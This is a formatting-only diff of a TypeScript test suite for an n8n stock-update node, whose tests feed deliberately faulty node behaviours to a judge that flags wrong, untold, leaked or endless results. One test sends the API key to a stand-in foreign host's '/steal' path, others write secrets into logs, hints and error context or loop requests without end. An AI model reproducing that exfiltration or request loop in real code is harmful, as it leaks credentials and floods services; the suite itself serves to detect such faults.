@@ -1,4 +1,9 @@
-import { sleep, type IExecuteFunctions, type INodeExecutionData, type INodeType } from 'n8n-workflow';
+import {
+	sleep,
+	type IExecuteFunctions,
+	type INodeExecutionData,
+	type INodeType,
+} from 'n8n-workflow';
 
 import { UpdateStocks } from '../../nodes/UpdateStocks/UpdateStocks.node';
 import { STORES, TOKENS } from '../../sandbox';
@@ -58,7 +63,14 @@ async function judged(execute: Execute, played = scenario()): Promise<Complaint[
 		}
 	}
 	const node = Broken as new () => INodeType;
-	return judge(await stage.play(played, { 'update stores': node, 'update warehouses': node, hide: node, unhide: node }));
+	return judge(
+		await stage.play(played, {
+			'update stores': node,
+			'update warehouses': node,
+			hide: node,
+			unhide: node,
+		}),
+	);
 }
 
 /** The node's own output with each item changed. */
@@ -67,7 +79,9 @@ const changing =
 	async (ours) =>
 		(await ours()).map((items) => items.map(change));
 
-const failings = (complaints: readonly Complaint[]): Failing[] => [...new Set(complaints.map(({ failing }) => failing))];
+const failings = (complaints: readonly Complaint[]): Failing[] => [
+	...new Set(complaints.map(({ failing }) => failing)),
+];
 
 /** Each write meets the same fault. */
 function onWrites(strike: (visit: Visit) => Promise<void>): FaultPlan {
@@ -75,24 +89,35 @@ function onWrites(strike: (visit: Visit) => Promise<void>): FaultPlan {
 		name: 'of a test',
 		what: '',
 		strike: async (visit: Visit) =>
-			visit.request.path.endsWith('offers/stocks') ? await strike(visit) : visit.answer(await visit.forward()),
+			visit.request.path.endsWith('offers/stocks')
+				? await strike(visit)
+				: visit.answer(await visit.forward()),
 	};
 	return { summary: 'each write', kindFor: () => kind };
 }
 
 const modes = ['continueRegularOutput', 'continueErrorOutput', 'stopWorkflow'] as const;
-const ways = modes.flatMap((onError) => (['items', 'summary'] as const).map((output) => ({ onError, output })));
+const ways = modes.flatMap((onError) =>
+	(['items', 'summary'] as const).map((output) => ({ onError, output })),
+);
 
 describe.each(ways)('$onError, $output', ({ onError, output }) => {
 	const meeting = async (strike?: (visit: Visit) => Promise<void>) =>
-		failings(await judged(asItIs, scenario({ onError, options: { output } }, strike ? onWrites(strike) : NO_FAULTS)));
+		failings(
+			await judged(
+				asItIs,
+				scenario({ onError, options: { output } }, strike ? onWrites(strike) : NO_FAULTS),
+			),
+		);
 
 	it('where all is well, nothing is said against it', async () => {
 		expect(await meeting()).toEqual([]);
 	});
 
 	it('a success after which nothing arrived is wrong', async () => {
-		expect(await meeting(async (visit) => visit.answer(json(200, { status: 'OK' })))).toEqual(['wrong']);
+		expect(await meeting(async (visit) => visit.answer(json(200, { status: 'OK' })))).toEqual([
+			'wrong',
+		]);
 	});
 
 	it('a success after which all but one balance arrived is wrong', async () => {
@@ -107,7 +132,9 @@ describe.each(ways)('$onError, $output', ({ onError, output }) => {
 	it('a refusal after which all arrived is wrong', async () => {
 		const failing = await meeting(async (visit) => {
 			await visit.forward();
-			visit.answer(json(400, { status: 'ERROR', errors: [{ code: 'X', message: 'Type mismatch' }] }));
+			visit.answer(
+				json(400, { status: 'ERROR', errors: [{ code: 'X', message: 'Type mismatch' }] }),
+			);
 		});
 		expect(failing).toEqual(['wrong']);
 	});
@@ -116,7 +143,9 @@ describe.each(ways)('$onError, $output', ({ onError, output }) => {
 describe('wrong is also', () => {
 	it('a number that is not the one of the item, and a row that cannot have been accepted', async () => {
 		const forged = { status: 'accepted', count: 5 };
-		expect(await judged(changing((item, index) => (index % 3 === 0 ? { ...item, json: forged } : item)))).toEqual([
+		expect(
+			await judged(changing((item, index) => (index % 3 === 0 ? { ...item, json: forged } : item))),
+		).toEqual([
 			{ failing: 'wrong', text: 'run 1, item 0: accepted as 5, and it means 1' },
 			{ failing: 'wrong', text: 'run 1, item 3: accepted, and it means nothing' },
 		]);
@@ -127,8 +156,17 @@ describe('wrong is also', () => {
 		const newer = { ...steps[0], rows: rowsOf(10), gapMs: 10_000 } as Step;
 		expect(await judged(asItIs, { ...rest, steps: [...steps, newer] })).toEqual([]);
 		// The newer run's numbers are told, and those of the older one are sent.
-		const older = { ...newer, rows: newer.rows.map(({ json: item, meaning }, index) => ({ json: { ...item, stock: index }, meaning })) };
-		const told = changing((item, index) => ({ ...item, json: { ...item.json, count: index + 11 } }));
+		const older = {
+			...newer,
+			rows: newer.rows.map(({ json: item, meaning }, index) => ({
+				json: { ...item, stock: index },
+				meaning,
+			})),
+		};
+		const told = changing((item, index) => ({
+			...item,
+			json: { ...item.json, count: index + 11 },
+		}));
 		expect(failings(await judged(told, { ...rest, steps: [older] }))).toEqual(['wrong']);
 	});
 });
@@ -136,26 +174,39 @@ describe('wrong is also', () => {
 describe('untold is', () => {
 	it.each<[string, Execute]>([
 		['a fate that is dropped', async (ours) => (await ours()).map((items) => items.slice(1))],
-		['two fates of one item', async (ours) => (await ours()).map((items) => [...items, ...items.slice(0, 1)])],
+		[
+			'two fates of one item',
+			async (ours) => (await ours()).map((items) => [...items, ...items.slice(0, 1)]),
+		],
 		['a status that says nothing', changing((item) => ({ ...item, json: {} }))],
-		['a failure without a reason', changing((item) => ({ ...item, json: { ...item.json, reason: '' } }))],
+		[
+			'a failure without a reason',
+			changing((item) => ({ ...item, json: { ...item.json, reason: '' } })),
+		],
 		['an item of no input', changing((item) => ({ ...item, pairedItem: { item: 9 } }))],
 		['no output', async () => [[]]],
 	])('%s', async (_name, execute) => {
 		expect(failings(await judged(execute))).toContain('untold');
 	});
 
-	it.each([{ accepted: 2 }, { failures: [] }])('a summary that leaves something out: %j', async (change) => {
-		const execute = changing((item) => ({ ...item, json: { ...item.json, ...change } }));
-		expect(failings(await judged(execute, scenario({ options: { output: 'summary' } })))).toContain('untold');
-	});
+	it.each([{ accepted: 2 }, { failures: [] }])(
+		'a summary that leaves something out: %j',
+		async (change) => {
+			const execute = changing((item) => ({ ...item, json: { ...item.json, ...change } }));
+			expect(
+				failings(await judged(execute, scenario({ options: { output: 'summary' } }))),
+			).toContain('untold');
+		},
+	);
 
 	it('an item that the message of a stopped workflow does not count', async () => {
 		const execute: Execute = async (ours) => {
 			await ours().catch(() => {});
 			throw new Error('3 of 4 items were sent and accepted, 0 were not: Stock is "many"');
 		};
-		expect(failings(await judged(execute, scenario({ onError: 'stopWorkflow' })))).toEqual(['untold']);
+		expect(failings(await judged(execute, scenario({ onError: 'stopWorkflow' })))).toEqual([
+			'untold',
+		]);
 	});
 });
 
@@ -172,18 +223,27 @@ describe('leaked is a secret', () => {
 		const complaints = await judged(async (ours, context) => {
 			context.addExecutionHints({ message: `A hint with ${said}`, location: 'outputPane' });
 			context.logger.info(`A line with ${said}`);
-			return (await ours()).map((items) => items.map((item) => ({ ...item, json: { ...item.json, deep: [{ note: `x${said}` }] } })));
+			return (await ours()).map((items) =>
+				items.map((item) => ({ ...item, json: { ...item.json, deep: [{ note: `x${said}` }] } })),
+			);
 		});
 		expect(failings(complaints)).toEqual(['leaked']);
-		expect(complaints.map(({ text }) => /in the (\w+)/.exec(text.replace('in base64', ''))?.[1]).sort()).toEqual(['hints', 'log', 'output']);
+		expect(
+			complaints.map(({ text }) => /in the (\w+)/.exec(text.replace('in base64', ''))?.[1]).sort(),
+		).toEqual(['hints', 'log', 'output']);
 	});
 
 	it.each(written)('%s in what an error carries', async (_way, said) => {
-		const complaints = await judged(async (ours) => {
-			await ours().catch(() => {});
-			const context = { data: { headers: [said] } };
-			throw Object.assign(new Error('3 of 4 items were sent and accepted, 1 was not'), { context });
-		}, scenario({ onError: 'stopWorkflow' }));
+		const complaints = await judged(
+			async (ours) => {
+				await ours().catch(() => {});
+				const context = { data: { headers: [said] } };
+				throw Object.assign(new Error('3 of 4 items were sent and accepted, 1 was not'), {
+					context,
+				});
+			},
+			scenario({ onError: 'stopWorkflow' }),
+		);
 		expect(failings(complaints)).toEqual(['leaked']);
 	});
 
@@ -193,32 +253,52 @@ describe('leaked is a secret', () => {
 			({ foreignUrl } = visit);
 			visit.answer(await visit.forward());
 		});
-		const complaints = await judged(async (ours, context) => {
-			const output = await ours();
-			await context.helpers.httpRequest({ url: `${foreignUrl}/steal`, headers: { 'x-key': key } });
-			return output;
-		}, scenario({}, spy));
-		expect(complaints).toEqual([{ failing: 'leaked', text: expect.stringContaining('raw, in the foreign host') }]);
+		const complaints = await judged(
+			async (ours, context) => {
+				const output = await ours();
+				await context.helpers.httpRequest({
+					url: `${foreignUrl}/steal`,
+					headers: { 'x-key': key },
+				});
+				return output;
+			},
+			scenario({}, spy),
+		);
+		expect(complaints).toEqual([
+			{ failing: 'leaked', text: expect.stringContaining('raw, in the foreign host') },
+		]);
 	});
 });
 
 describe('endless is', () => {
 	it.each<[string, Execute, Step['options']]>([
 		['a wait of a day', async (ours) => await sleep(24 * HOUR_MS).then(ours), {}],
-		['a wait that Maximum Wait forbids', async (ours) => await sleep(HOUR_MS / 10).then(ours), { maximumWait: 1 }],
+		[
+			'a wait that Maximum Wait forbids',
+			async (ours) => await sleep(HOUR_MS / 10).then(ours),
+			{ maximumWait: 1 },
+		],
 		['a promise that nobody keeps', async () => await new Promise(() => {}), {}],
 	])('%s', async (_name, execute, options) => {
 		expect(failings(await judged(execute, scenario({ options })))).toContain('endless');
 	});
 
-	it('one request after the other for ever', async () => {
-		let isOver = false;
-		const execute: Execute = async (ours, context) => {
-			context.onExecutionCancellation(() => (isOver = true));
-			const { apiUrl } = await context.getCredentials('yandexMarketApi');
-			while (!isOver) await context.helpers.httpRequest({ url: `${String(apiUrl)}/v2`, ignoreHttpStatusErrors: true });
-			return await ours();
-		};
-		expect(failings(await judged(execute))).toEqual(['endless']);
-	}, A_THOUSAND_REQUESTS_MS);
+	it(
+		'one request after the other for ever',
+		async () => {
+			let isOver = false;
+			const execute: Execute = async (ours, context) => {
+				context.onExecutionCancellation(() => (isOver = true));
+				const { apiUrl } = await context.getCredentials('yandexMarketApi');
+				while (!isOver)
+					await context.helpers.httpRequest({
+						url: `${String(apiUrl)}/v2`,
+						ignoreHttpStatusErrors: true,
+					});
+				return await ours();
+			};
+			expect(failings(await judged(execute))).toEqual(['endless']);
+		},
+		A_THOUSAND_REQUESTS_MS,
+	);
 });
